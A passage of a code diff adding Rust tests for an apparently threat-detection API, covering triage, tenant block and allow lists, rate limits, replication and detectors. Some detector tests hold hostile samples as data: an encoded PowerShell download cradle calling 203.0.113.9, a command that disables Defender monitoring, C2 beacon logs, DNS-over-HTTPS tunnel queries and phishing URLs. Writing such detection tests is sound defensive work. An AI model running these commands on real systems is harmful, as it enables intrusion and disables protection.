+            r#"const key = await crypto.subtle.importKey("raw", secret, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);"#,
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("code", benign, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "cryptominer"), "pass", "{}", benign);
+        }
+
+        // Names come from the settings, not a fixed list
+        let named: serde_json::Value = read_body_json(call_service(&custom, explain("code", r#"load("minepool.js");"#, None).to_request()).await).await;
+        assert!(reasons(&named).contains(&"Possible cryptojacking (miner minepool)"), "{:?}", named["reasons"]);
+        let builtin: serde_json::Value = read_body_json(call_service(&custom, explain("code", r#"load("coinhive.min.js");"#, None).to_request()).await).await;
+        assert_eq!(outcome(&builtin, "cryptominer"), "pass");
+    }
+
+    /// Settings queueing `url` verdicts under 0.3 for review, with tenants
+    /// `a` and `b`
+    fn triage_settings() -> Settings {
+        let mut settings = settings();
+        settings.triage_bands.insert("url".to_string(), triage::TriageBand { min: 0.0, max: 0.3 });
+        settings.tenants.insert("a".to_string(), config::TenantSettings::default());
+        settings.tenants.insert("b".to_string(), config::TenantSettings::default());
+        settings
+    }
+
+    fn in_tenant(req: TestRequest, tenant: &str) -> TestRequest {
+        req.insert_header(("X-Tenant-Id", tenant.to_string()))
+    }
+
+    fn resolve(id: &serde_json::Value, body: serde_json::Value) -> TestRequest {
+        TestRequest::post().uri(&format!("/api/triage/{}/resolve", id.as_str().unwrap())).set_json(body)
+    }
+
+    #[actix_web::test]
+    async fn triage_queues_gray_band_verdicts_for_their_tenant() {
+        let state = state(triage_settings());
+        let app = app(&state).await;
+        let benign = "https://docs.example.org/guide";
+        let queued: serde_json::Value = read_body_json(call_service(&app, in_tenant(detect("url", benign), "a").to_request()).await).await;
+        assert_eq!(queued["triage"], true);
+        assert!(queued["confidence"].as_f64().unwrap() < 0.3);
+        let phishing = "http://paypa1-verify.example.tk/login?confirm=1";
+        let confident: serde_json::Value = read_body_json(call_service(&app, in_tenant(detect("url", phishing), "a").to_request()).await).await;
+        assert_ne!(confident["triage"], true);
+
+        let list = || TestRequest::get().uri("/api/triage?state=pending");
+        let items: serde_json::Value = read_body_json(call_service(&app, in_tenant(list(), "a").to_request()).await).await;
+        assert_eq!(items.as_array().unwrap().len(), 1);
+        assert_eq!(items[0]["content"], benign);
+        let other: serde_json::Value = read_body_json(call_service(&app, in_tenant(list(), "b").to_request()).await).await;
+        assert_eq!(other, serde_json::json!([]));
+
+        let id = &items[0]["id"];
+        let safe = serde_json::json!({ "verdict": "safe" });
+        assert_eq!(call_service(&app, in_tenant(resolve(id, safe.clone()), "b").to_request()).await.status(), 404);
+        let cached = state.lock_cache().len();
+        let resolved = call_service(&app, in_tenant(resolve(id, safe.clone()), "a").to_request()).await;
+        assert_eq!(resolved.status(), 200);
+        let resolved: serde_json::Value = read_body_json(resolved).await;
+        assert_eq!(resolved["state"], "resolved");
+        assert_eq!(resolved["resolution"]["verdict"], "safe");
+        assert_eq!(call_service(&app, in_tenant(resolve(id, safe), "a").to_request()).await.status(), 409);
+
+        // The engine's cached verdict is dropped, and the review counted
+        assert_eq!(state.lock_cache().len(), cached - 1);
+        let again: serde_json::Value = read_body_json(call_service(&app, in_tenant(detect("url", benign), "a").to_request()).await).await;
+        assert_eq!(again["cached"], false);
+        let stats = TestRequest::get().uri("/api/stats");
+        let stats: serde_json::Value = read_body_json(call_service(&app, stats.to_request()).await).await;
+        assert_eq!(stats["by_type"]["url"]["reviews"], serde_json::json!({ "threat": 0, "safe": 1, "false_positives": 0, "false_negatives": 0 }));
+    }
+
+    #[actix_web::test]
+    async fn triage_action_templates_change_only_their_tenant() {
+        let state = state(triage_settings());
+        let app = app(&state).await;
+        let verdict = |content: &str, tenant: &str| in_tenant(detect("url", content), tenant).to_request();
+        let pending = |tenant: &str| in_tenant(TestRequest::get().uri("/api/triage?state=pending"), tenant).to_request();
+        let queue = |content: &'static str| {
+            let app = &app;
+            async move {
+                let body: serde_json::Value = read_body_json(call_service(app, verdict(content, "a")).await).await;
+                assert_eq!(body["triage"], true, "{} not queued", content);
+                let items: serde_json::Value = read_body_json(call_service(app, pending("a")).await).await;
+                items.as_array().unwrap().iter().find(|i| i["content"] == content).unwrap()["id"].clone()
+            }
+        };
+
+        // blocklist_host
+        let id = queue("https://docs.example.org/guide").await;
+        let body = serde_json::json!({ "verdict": "threat", "action": { "template": "blocklist_host" } });
+        let resolved: serde_json::Value = read_body_json(call_service(&app, in_tenant(resolve(&id, body), "a").to_request()).await).await;
+        assert_eq!(resolved["resolution"]["action"]["entry"], "docs.example.org");
+        let blocked: serde_json::Value = read_body_json(call_service(&app, verdict("https://docs.example.org/other", "a")).await).await;
+        let open: serde_json::Value = read_body_json(call_service(&app, verdict("https://docs.example.org/other", "b")).await).await;
+        assert_eq!((blocked["is_threat"].clone(), open["is_threat"].clone()), (serde_json::json!(true), serde_json::json!(false)));
+
+        // allowlist_host, which a threat verdict cannot use
+        let id = queue("https://news.example.org/today").await;
+        let wrong = serde_json::json!({ "verdict": "threat", "action": { "template": "allowlist_host" } });
+        assert_eq!(call_service(&app, in_tenant(resolve(&id, wrong), "a").to_request()).await.status(), 422);
+        let body = serde_json::json!({ "verdict": "safe", "action": { "template": "allowlist_host" } });
+        assert_eq!(call_service(&app, in_tenant(resolve(&id, body), "a").to_request()).await.status(), 200);
+        let lists = |tenant: &str| in_tenant(TestRequest::get().uri(&format!("/api/admin/tenants/{}/lists", tenant)), tenant).to_request();
+        let a: serde_json::Value = read_body_json(call_service(&app, lists("a")).await).await;
+        let b: serde_json::Value = read_body_json(call_service(&app, lists("b")).await).await;
+        assert!(a["allowlist"].as_array().unwrap().contains(&serde_json::json!("news.example.org")));
+        assert!(!b["allowlist"].as_array().unwrap().contains(&serde_json::json!("news.example.org")));
+
+        // emergency_rule
+        let id = queue("https://files.example.net/report").await;
+        let body = serde_json::json!({ "verdict": "threat", "action": { "template": "emergency_rule", "ttl_secs": 60 } });
+        let resolved: serde_json::Value = read_body_json(call_service(&app, in_tenant(resolve(&id, body), "a").to_request()).await).await;
+        assert_eq!(resolved["resolution"]["action"]["rule"]["pattern"], "files.example.net");
+        let flagged: serde_json::Value = read_body_json(call_service(&app, verdict("https://files.example.net/other", "a")).await).await;
+        let open: serde_json::Value = read_body_json(call_service(&app, verdict("https://files.example.net/other", "b")).await).await;
+        assert_eq!((flagged["is_threat"].clone(), open["is_threat"].clone()), (serde_json::json!(true), serde_json::json!(false)));
+
+        let stats = TestRequest::get().uri("/api/stats");
+        let stats: serde_json::Value = read_body_json(call_service(&app, stats.to_request()).await).await;
+        assert_eq!(stats["by_type"]["url"]["reviews"], serde_json::json!({ "threat": 2, "safe": 1, "false_positives": 0, "false_negatives": 2 }));
+    }
+
+    #[actix_web::test]
+    async fn a_slow_batch_item_is_held_to_its_slice_and_later_items_still_run() {
+        // Only the URL item takes time; the code items run on a clock that stands still
+        let run = |split: &str| {
+            let clock = Arc::new(clock::ManualClock::new());
+            let settings = Settings { batch_concurrency: 1, batch_deadline_split: split.to_string(), ..settings() };
+            let mut state = Arc::try_unwrap(manual_state(settings, &clock).into_inner()).ok().unwrap();
+            state.detectors.register("url", SlowDetector { clock: clock.clone(), delay: Duration::from_millis(60) });
+            web::Data::new(state)
+        };
+        let batch = serde_json::json!({ "threats": [
+            { "threat_type": "url", "content": "https://example.org/slow" },
+            { "threat_type": "code", "content": "console.log(1)" },
+            { "threat_type": "code", "content": "console.log(2)" },
+            { "threat_type": "code", "content": "console.log(3)" },
+        ]});
+        let timed_out = |body: &serde_json::Value| -> Vec<bool> {
+            body["results"].as_array().unwrap().iter().map(|r| r["timed_out"] == true).collect()
+        };
+        let (remaining, equal, none) = (run("remaining"), run("equal"), run("none"));
+        let (remaining, equal, none) = (app(&remaining).await, app(&equal).await, app(&none).await);
+        let post = || TestRequest::post().uri("/api/detect/batch").insert_header(("X-Timeout-Ms", "100")).set_json(&batch).to_request();
+
+        // 60ms overruns a quarter of the 100ms budget; the rest still fits in what is left
+        for service in [&remaining, &equal] {
+            let body: serde_json::Value = read_body_json(call_service(service, post()).await).await;
+            assert_eq!(timed_out(&body), [true, false, false, false]);
+            assert_eq!(body["results"][1]["threat_type"], "malware");
+        }
+        // Unsplit, the first item may spend most of the budget
+        let body: serde_json::Value = read_body_json(call_service(&none, post()).await).await;
+        assert_eq!(timed_out(&body), [false, false, false, false]);
+
+        // Unused time passes on under the remaining split only
+        let settings = |split: &str| Settings { batch_deadline_split: split.to_string(), ..settings() };
+        let received = std::time::Instant::now();
+        let deadline = Some(received + Duration::from_millis(100));
+        let later = received + Duration::from_millis(10);
+        let slice = |split: &str, now, index| batch_item_deadline(&settings(split), deadline, received, now, index, 4).map(|d| d - now);
+        assert_eq!(slice("remaining", received, 0), Some(Duration::from_millis(25)));
+        assert_eq!(slice("remaining", later, 1), Some(Duration::from_millis(30)));
+        assert_eq!(slice("equal", later, 1), Some(Duration::from_millis(25)));
+        assert_eq!(slice("none", later, 1), Some(Duration::from_millis(90)));
+        assert_eq!(batch_item_deadline(&settings("remaining"), None, received, later, 1, 4), None);
+    }
+
+    #[actix_web::test]
+    async fn promoted_standby_serves_the_primary_cache_and_sessions() {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let addr = listener.local_addr().unwrap().to_string();
+        let instance = |role: &str, peer: Option<String>| {
+            state(Settings {
+                replication_role: role.to_string(),
+                replication_token: Some("replication-token-0123".to_string()),
+                replication_peer: peer,
+                ..settings()
+            })
+        };
+        let primary = instance("primary", Some(addr.clone()));
+        let standby = instance("standby", None);
+        actix_rt::spawn(receive_replication(standby.clone(), listener));
+        actix_rt::spawn(replicate_to_standby(primary.clone(), addr));
+        until(|| primary.replication.status().is_some_and(|s| s.connected)).await;
+
+        let first = "http://paypa1-verify.example.tk/login?confirm=1";
+        let second = "http://amaz0n-confirm.example.tk/signin?verify=1";
+        let in_session = |content: &str| {
+            TestRequest::post().uri("/api/detect").set_json(serde_json::json!({
+                "threat_type": "url",
+                "content": content,
+                "context": "session_id=s-1",
+            }))
+        };
+        let primary_app = app(&primary).await;
+        let computed: serde_json::Value = read_body_json(call_service(&primary_app, in_session(first).to_request()).await).await;
+        assert_eq!(computed["cached"], false);
+        assert_eq!(computed["session_risk"]["signals"], 1);
+        let sessions = standby.sessions.as_ref().unwrap();
+        until(|| standby.lock_cache().len() == 1 && sessions.state("", "s-1").is_some()).await;
+
+        let standby_app = app(&standby).await;
+        let promote = TestRequest::post().uri("/api/admin/replication/promote");
+        assert_eq!(call_service(&standby_app, promote.to_request()).await.status(), 200);
+        let served: serde_json::Value = read_body_json(call_service(&standby_app, in_session(first).to_request()).await).await;
+        assert_eq!(served["cached"], true);
+        assert_eq!(served["confidence"], computed["confidence"]);
+        assert_eq!(served["reasons"], computed["reasons"]);
+        // The session carries on where the primary left it
+        let next: serde_json::Value = read_body_json(call_service(&standby_app, in_session(second).to_request()).await).await;
+        assert_eq!(next["session_risk"]["signals"], 2);
+    }
+
+    #[actix_web::test]
+    async fn daily_quota_counts_the_client_whatever_tenant_header_it_sends() {
+        let app = app(&state(Settings { daily_quota: 2, ..settings() })).await;
+        let mut statuses = Vec::new();
+        for tenant in ["t-1", "t-2", "t-3", "t-4"] {
+            let req = detect("url", "https://example.org").insert_header(("X-Tenant-Id", tenant));
+            statuses.push(call_service(&app, req.to_request()).await.status().as_u16());
+        }
+        assert_eq!(statuses, [200, 200, 429, 429]);
+    }
+
+    #[actix_web::test]
+    async fn daily_quota_of_a_tenant_follows_its_keys_not_the_tenant_header() {
+        const GOLD: &str = "k-gold-0123";
+        const PLAIN: &str = "k-plain-0123";
+        let gold = config::TenantSettings {
+            daily_quota: Some(3),
+            key_ids: vec![hex::encode(&Sha256::digest(GOLD.as_bytes())[..8])],
+            ..Default::default()
+        };
+        let mut settings = Settings { daily_quota: 1, ..settings() };
+        settings.tenants.insert("gold".to_string(), gold);
+        let statuses = |settings: Settings, key: Option<&'static str>| async move {
+            let app = app(&state(settings)).await;
+            let mut statuses = Vec::new();
+            for _ in 0..3 {
+                let mut req = detect("url", "https://example.org").insert_header(("X-Tenant-Id", "gold"));
+                if let Some(key) = key {
+                    req = req.insert_header(("X-Api-Key", key));
+                }
+                statuses.push(call_service(&app, req.to_request()).await.status().as_u16());
+            }
+            statuses
+        };
+        let keyed = Settings { api_keys: vec![GOLD.to_string(), PLAIN.to_string()], ..settings.clone() };
+        assert_eq!(statuses(keyed.clone(), Some(GOLD)).await, [200, 200, 200]);
+        // Naming the tenant earns another key or an unauthenticated caller nothing
+        assert_eq!(statuses(keyed, Some(PLAIN)).await, [200, 429, 429]);
+        assert_eq!(statuses(settings, None).await, [200, 429, 429]);
+    }
+
+    #[actix_web::test]
+    async fn daily_quota_ignores_forwarded_addresses_from_untrusted_peers() {
+        let proxy: std::net::SocketAddr = "10.0.0.5:40000".parse().unwrap();
+        let statuses = |trusted_proxies: Vec<std::net::IpAddr>| async move {
+            let app = app(&state(Settings { daily_quota: 1, trusted_proxies, ..settings() })).await;
+            let mut statuses = Vec::new();
+            for forwarded in ["203.0.113.1", "203.0.113.2"] {
+                let req = detect("url", "https://example.org").peer_addr(proxy).insert_header(("X-Forwarded-For", forwarded));
+                statuses.push(call_service(&app, req.to_request()).await.status().as_u16());
+            }
+            statuses
+        };
+        // The same peer shares one quota whatever it claims to forward for
+        assert_eq!(statuses(Vec::new()).await, [200, 429]);
+        // Behind a trusted proxy, each forwarded client has its own
+        assert_eq!(statuses(vec![proxy.ip()]).await, [200, 200]);
+    }
+
+    #[actix_web::test]
+    async fn rate_limit_counts_batch_items_and_says_when_to_retry() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let app = app(&manual_state(Settings { rate_limit_per_sec: 1.0, rate_limit_burst: 3, ..settings() }, &clock)).await;
+        let batch = |n: usize| {
+            let threats = vec![serde_json::json!({ "threat_type": "url", "content": "https://example.org" }); n];
+            TestRequest::post().uri("/api/detect/batch").set_json(serde_json::json!({ "threats": threats })).to_request()
+        };
+        assert_eq!(call_service(&app, batch(2)).await.status(), 200);
+        assert_eq!(call_service(&app, detect("url", "https://example.org").to_request()).await.status(), 200);
+        let response = call_service(&app, detect("url", "https://example.org").to_request()).await;
+        assert_eq!(response.status(), 429);
+        assert_eq!(response.headers().get("Retry-After").unwrap(), "1");
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!(body["error"], "Rate limit exceeded");
+
+        // Two seconds cover a detection, but not a batch of three
+        clock.advance(Duration::from_secs(2));
+        let response = call_service(&app, batch(3)).await;
+        assert_eq!(response.status(), 429);
+        assert_eq!(response.headers().get("Retry-After").unwrap(), "1");
+        clock.advance(Duration::from_secs(1));
+        assert_eq!(call_service(&app, batch(3)).await.status(), 200);
+        // Other routes are not limited
+        assert_eq!(call_service(&app, TestRequest::get().uri("/api/health").to_request()).await.status(), 200);
+    }
+
+    #[actix_web::test]
+    async fn rate_limit_covers_every_detection_route() {
+        let app = app(&state(Settings { rate_limit_per_sec: 0.001, rate_limit_burst: 1, ..settings() })).await;
+        assert_eq!(call_service(&app, detect("url", "https://example.org").to_request()).await.status(), 200);
+        let partial = serde_json::json!({ "threat_type": "url", "stream_id": "s-1", "seq": 0, "fragment": "https://", "is_final": false });
+        for req in [
+            TestRequest::post().uri("/api/detect/raw?threat_type=url").insert_header(("Content-Type", "text/plain")).set_payload("https://example.org"),
+            TestRequest::post().uri("/api/detect/partial").set_json(partial),
+            TestRequest::post().uri("/api/detect/qr").set_payload(QR_PNG),
+            TestRequest::post().uri("/api/detect/compare").set_json(serde_json::json!({ "threat_type": "url", "content": "https://example.org" })),
+        ] {
+            let response = call_service(&app, req.to_request()).await;
+            assert_eq!(response.status(), 429, "{}", response.request().uri());
+        }
+        // Reads of past detections are not detections
+        let history = TestRequest::get().uri(&format!("/api/detections/by-fingerprint/{}", "0".repeat(64)));
+        assert_ne!(call_service(&app, history.to_request()).await.status(), 429);
+    }
+
+    #[actix_web::test]
+    async fn rate_limit_holds_a_peer_whatever_forwarded_address_it_sends() {
+        let peer: std::net::SocketAddr = "10.0.0.5:40000".parse().unwrap();
+        let app = app(&state(Settings { rate_limit_per_sec: 0.001, rate_limit_burst: 2, ..settings() })).await;
+        let mut statuses = Vec::new();
+        for (i, forwarded) in ["203.0.113.1", "203.0.113.2", "203.0.113.3", "198.51.100.7"].into_iter().enumerate() {
+            let req = detect("url", "https://example.org")
+                .peer_addr(peer)
+                .insert_header(("X-Forwarded-For", forwarded))
+                .insert_header(("Forwarded", format!("for={}", forwarded)))
+                .insert_header(("X-Real-Ip", format!("192.0.2.{}", i)));
+            statuses.push(call_service(&app, req.to_request()).await.status().as_u16());
+        }
+        assert_eq!(statuses, [200, 200, 429, 429]);
+    }
+
+    #[actix_web::test]
+    async fn regular_frequent_contacts_are_beaconing_and_irregular_or_rare_ones_are_not() {
+        let app = app(&state(settings())).await;
+        let timed = |offsets: &[u32]| -> String {
+            offsets.iter().map(|s| format!("10:{:02}:{:02} POST c2.example.net:8443 status=200\n", s / 60, s % 60)).collect()
+        };
+        let regular = timed(&[0, 30, 61, 90, 120]);
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("action", &regular, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "beacon"), "hit");
+        assert!(reasons(&body).iter().any(|r| r.starts_with("Possible beaconing (5 contacts with c2.example.net:8443 every 30s")), "{:?}", body["reasons"]);
+        let spans = body["trace"].as_array().unwrap().iter().find(|s| s["stage"] == "beacon").unwrap()["spans"].clone();
+        assert_eq!(spans.as_array().unwrap().len(), 2);
+        assert_eq!(body["is_threat"], true);
+
+        let description = "Install the agent and have it ping the server every 30 seconds";
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("action", description, None).to_request()).await).await;
+        assert!(reasons(&body).contains(&"Possible beaconing (outbound contact on a schedule (every 30s))"), "{:?}", body["reasons"]);
+
+        for benign in [
+            // Too irregular, too few, too far apart
+            timed(&[0, 5, 200, 260, 1000]),
+            timed(&[0, 30, 60]),
+            "Send the usage report to the server every 24 hours".to_string(),
+            "Open the settings page and change the display language".to_string(),
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("action", &benign, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "beacon"), "pass", "{}", benign);
+        }
+    }
+
+    #[actix_web::test]
+    async fn perfectly_regular_action_timing_is_flagged_as_a_bot_and_human_timing_is_not() {
+        let app = app(&state(settings())).await;
+        let timed = |offsets: &[u32]| -> String {
+            offsets.iter().map(|s| format!("12:{:02}:{:02} submit login form\n", s / 60, s % 60)).collect()
+        };
+        let regular = timed(&[0, 2, 4, 6, 8, 10]);
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("action", &regular, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "bot_timing"), "hit");
+        assert!(reasons(&body).contains(&"Machine-regular timing (6 actions every 2.00s, jitter 0.0%)"), "{:?}", body["reasons"]);
+        let spans = body["trace"].as_array().unwrap().iter().find(|s| s["stage"] == "bot_timing").unwrap()["spans"].clone();
+        assert_eq!(spans.as_array().unwrap().len(), 2);
+
+        for human in [
+            // Uneven pauses, then too few actions to judge
+            timed(&[0, 7, 31, 34, 72, 80]),
+            timed(&[0, 2, 4, 6]),
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("action", &human, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "bot_timing"), "pass", "{}", human);
+        }
+    }
+
+    #[actix_web::test]
+    async fn several_medium_actions_in_one_session_escalate_its_risk() {
+        let actions = ["Export the contact list to CSV", "Disable two-factor authentication", "Add a mail forwarding rule"];
+        let medium = config::VerdictOverride { is_threat: false, severity: "medium".to_string(), confidence: Some(0.5) };
+        let overrides = actions.iter().map(|a| (hash_string(a), medium.clone())).collect();
+        let app = app(&state(Settings { overrides, ..settings() })).await;
+        let act = |content: &str, session: &str| {
+            TestRequest::post().uri("/api/detect").set_json(serde_json::json!({
+                "threat_type": "action",
+                "content": content,
+                "context": format!("session_id={}", session),
+            }))
+        };
+
+        let (mut risks, mut severities) = (Vec::new(), Vec::new());
+        for action in actions {
+            let body: serde_json::Value = read_body_json(call_service(&app, act(action, "s-1").to_request()).await).await;
+            assert_eq!(body["confidence"].as_f64().map(|c| c as f32), Some(0.5));
+            assert_eq!(body["session_risk"]["session_id"], "s-1");
+            severities.push(body["session_risk"]["severity"].as_str().unwrap().to_string());
+            risks.push((body["session_risk"]["risk"].as_f64().unwrap() as f32, body["session_risk"]["signals"].clone()));
+        }
+        assert_eq!(risks, [(0.5, serde_json::json!(1)), (0.75, serde_json::json!(2)), (0.875, serde_json::json!(3))]);
+        assert_eq!(severities, ["medium", "high", "critical"]);
+
+        // Another session starts from nothing; no session, no field
+        let other: serde_json::Value = read_body_json(call_service(&app, act(actions[0], "s-2").to_request()).await).await;
+        assert_eq!(other["session_risk"]["signals"], 1);
+        let unsessioned: serde_json::Value = read_body_json(call_service(&app, detect("action", actions[1]).to_request()).await).await;
+        assert!(unsessioned.get("session_risk").is_none());
+    }
+
+    #[actix_web::test]
+    async fn doh_queries_carrying_encoded_labels_are_flagged_in_either_form() {
+        use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+        use base64::Engine;
+        let app = app(&state(settings())).await;
+        let encoded = "a4eascqlbqgq4dyqcejbgfavcylrqgi2dmob2hq7eaqseize";
+        // RFC 8484 wire query: header, the name's labels, then type A, class IN
+        let wire = |name: &str| {
+            let mut message = vec![0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+            for label in name.split('.') {
+                message.push(label.len() as u8);
+                message.extend(label.as_bytes());
+            }
+            message.extend([0, 0, 1, 0, 1]);
+            URL_SAFE_NO_PAD.encode(message)
+        };
+
+        let json_api = format!("https://dns.google/resolve?name={}.t.example.net&type=TXT", encoded);
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("url", &json_api, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "doh_tunnel"), "hit");
+        assert!(reasons(&body).contains(&"DNS-over-HTTPS query to dns.google carries encoded data (48 chars)"), "{:?}", body["reasons"]);
+        let span = body["trace"].as_array().unwrap().iter().find(|s| s["stage"] == "doh_tunnel").unwrap()["spans"][0].clone();
+        let (offset, length) = (span["offset"].as_u64().unwrap() as usize, span["length"].as_u64().unwrap() as usize);
+        assert_eq!(&json_api[offset..offset + length], format!("name={}.t.example.net", encoded));
+
+        let wire_format = format!("https://security.cloudflare-dns.com/dns-query?dns={}", wire(&format!("{}.t.example.net", encoded)));
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("url", &wire_format, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "doh_tunnel"), "hit");
+
+        for benign in [
+            "https://dns.google/resolve?name=www.wikipedia.org&type=A".to_string(),
+            format!("https://cloudflare-dns.com/dns-query?dns={}", wire("www.example.com")),
+            // Same query, but not to a resolver
+            format!("https://files.example.org/resolve?name={}.t.example.net", encoded),
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("url", &benign, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "doh_tunnel"), "pass", "{}", benign);
+        }
+    }
+
+    #[actix_web::test]
+    async fn strict_mode_rejects_unknown_fields_that_are_otherwise_ignored() {
+        let strict = state(Settings { strict_request_fields: true, ..settings() });
+        let (app, strict) = (app(&state(settings())).await, app(&strict).await);
+        let typo = serde_json::json!({ "threat_type": "url", "treat_type": "code", "content": "https://example.org/" });
+        let batch = serde_json::json!({ "threats": [{ "threat_type": "url", "content": "https://example.org/" }, typo], "priority": 1 });
+        let detection = || TestRequest::post().uri("/api/detect").set_json(&typo).to_request();
+        let batched = || TestRequest::post().uri("/api/detect/batch").set_json(&batch).to_request();
+        let raw = || TestRequest::post().uri("/api/detect/raw?threat_type=code&explian=true").insert_header(("Content-Type", "text/plain")).set_payload("eval(x)").to_request();
+
+        for (request, status) in [(detection(), 200), (batched(), 200), (raw(), 200)] {
+            assert_eq!(call_service(&app, request).await.status(), status);
+        }
+
+        let response = call_service(&strict, detection()).await;
+        assert_eq!(response.status(), 422);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!(body["unexpected_fields"], serde_json::json!(["/treat_type"]));
+        assert_eq!(body["violations"][0]["message"], "unexpected field; did you mean \"threat_type\"?");
+        let body: serde_json::Value = read_body_json(call_service(&strict, batched()).await).await;
+        assert_eq!(body["unexpected_fields"], serde_json::json!(["/priority", "/threats/1/treat_type"]));
+        let response = call_service(&strict, raw()).await;
+        assert_eq!(response.status(), 422);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!(body["unexpected_fields"], serde_json::json!(["/explian"]));
+
+        let exact = serde_json::json!({ "threat_type": "url", "content": "https://example.org/", "explain": true });
+        assert_eq!(call_service(&strict, TestRequest::post().uri("/api/detect").set_json(exact).to_request()).await.status(), 200);
+    }
+
+    #[actix_web::test]
+    async fn a_disabled_threat_type_is_answered_with_501_instead_of_a_verdict() {
+        let state = state(Settings { disabled_threat_types: vec!["action".to_string()], ..settings() });
+        let app = app(&state).await;
+
+        let response = call_service(&app, detect("action", "Disable two-factor authentication").to_request()).await;
+        assert_eq!(response.status(), 501);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!(body["code"], "disabled");
+        assert_eq!(body["violations"], serde_json::json!([{ "pointer": "/threat_type", "message": "threat type \"action\" is disabled" }]));
+
+        // One disabled item turns the whole batch away
+        let batch = serde_json::json!({ "threats": [
+            { "threat_type": "url", "content": "https://example.org/" },
+            { "threat_type": "action", "content": "Disable two-factor authentication" },
+        ]});
+        let response = call_service(&app, TestRequest::post().uri("/api/detect/batch").set_json(batch).to_request()).await;
+        assert_eq!(response.status(), 501);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!(body["violations"][0]["pointer"], "/threats/1/threat_type");
+        let raw = TestRequest::post().uri("/api/detect/raw?threat_type=action").insert_header(("Content-Type", "text/plain")).set_payload("Disable 2FA");
+        assert_eq!(call_service(&app, raw.to_request()).await.status(), 501);
+        assert_eq!(state.lock_stats().total_detections, 0);
+
+        assert_eq!(call_service(&app, detect("url", "https://example.org/").to_request()).await.status(), 200);
+    }
+
+    #[actix_web::test]
+    async fn encoded_powershell_spawns_are_decoded_and_scanned_and_plain_spawns_are_not() {
+        use base64::engine::general_purpose::STANDARD;
+        use base64::Engine;
+        let app = app(&state(settings())).await;
+        // Base64 of UTF-16LE, as -EncodedCommand takes it
+        let encode = |command: &str| STANDARD.encode(command.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
+        let cradle = format!("spawn cmd.exe /c powershell -enc {}", encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"));
+        let inner = encode("Set-MpPreference -DisableRealtimeMonitoring $true");
+        let nested = format!(r#"run "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -W Hidden -e {}"#, encode(&format!("pwsh -EncodedCommand {}", inner)));
+        for (content, expected) in [
+            (cradle, "powershell launched with an encoded command (invoke-expression, download cradle, web client)"),
+            (nested, "powershell launched with an encoded command (nested encoded command, defender tampering)"),
+            (format!("powershell -ec {}", encode("Get-Date")), "powershell launched with an encoded command"),
+            ("powershell -enc !!not-base64!!".to_string(), "powershell launched with an undecodable encoded command"),
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("action", &content, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "encoded_spawn"), "hit", "{}", content);
+            assert!(reasons(&body).contains(&expected), "{:?}", body["reasons"]);
+        }
+
+        for benign in [
+            "spawn cmd.exe /c dir C:\\Users",
+            "spawn powershell -ExecutionPolicy RemoteSigned -File backup.ps1",
+            "run notepad.exe -e readme.txt",
+            "spawn powershell -File report.ps1 && echo -enc done",
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("action", benign, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "encoded_spawn"), "pass", "{}", benign);
+        }
+    }
+
+    #[actix_web::test]
+    async fn a_hundred_item_batch_returns_every_result_in_submission_order() {
+        let item = |n: usize| (if n.is_multiple_of(2) { "url" } else { "code" }, format!("https://example.org/item/{}", n));
+        // Each item's verdict carries its own index as its confidence
+        let overrides = (0..100)
+            .map(|n| {
+                let forced = config::VerdictOverride { is_threat: false, severity: "low".to_string(), confidence: Some(n as f32 / 1000.0) };
+                (hash_string(&item(n).1), forced)
+            })
+            .collect();
+        let app = app(&state(Settings { overrides, ..settings() })).await;
+        let threats: Vec<serde_json::Value> =
+            (0..100).map(item).map(|(threat_type, content)| serde_json::json!({ "threat_type": threat_type, "content": content })).collect();
+        let request = TestRequest::post().uri("/api/detect/batch").set_json(serde_json::json!({ "threats": threats }));
+        let response = call_service(&app, request.to_request()).await;
+        assert_eq!(response.status(), 200);
+        let body: serde_json::Value = read_body_json(response).await;
+
+        let results = body["results"].as_array().unwrap();
+        assert_eq!(results.len(), 100);
+        for (n, result) in results.iter().enumerate() {
+            assert_eq!(result["confidence"].as_f64().map(|c| (c * 1000.0).round() as usize), Some(n));
+            assert_eq!(result["threat_type"], if n.is_multiple_of(2) { "phishing" } else { "malware" }, "{}", n);
+            assert!(result["latency_ms"].is_u64());
+        }
+    }
+
+    #[actix_web::test]
+    async fn batches_past_the_running_and_queued_limits_are_turned_away_with_429() {
+        let state = state(Settings { max_batch_jobs: 1, batch_job_queue: 0, ..settings() });
+        let app = app(&state).await;
+        let batch = || {
+            let threats = serde_json::json!({ "threats": [{ "threat_type": "url", "content": "https://example.org/" }] });
+            TestRequest::post().uri("/api/detect/batch").set_json(threats).to_request()
+        };
+
+        let running = state.batch_jobs.admit().await.unwrap();
+        let response = call_service(&app, batch()).await;
+        assert_eq!(response.status(), 429);
